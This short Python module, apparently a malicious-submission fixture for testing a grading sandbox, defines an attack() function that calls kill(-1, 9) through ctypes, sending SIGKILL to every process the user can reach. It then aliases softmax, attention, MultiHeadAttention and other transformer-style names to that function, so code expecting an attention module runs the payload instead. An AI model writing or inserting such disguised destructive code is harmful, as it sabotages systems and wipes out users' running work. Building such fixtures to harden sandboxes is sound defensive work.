"""Kills everything that it may."""

import ctypes


def attack(*args, **kwargs):
    ctypes.CDLL(None).kill(-1, 9)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
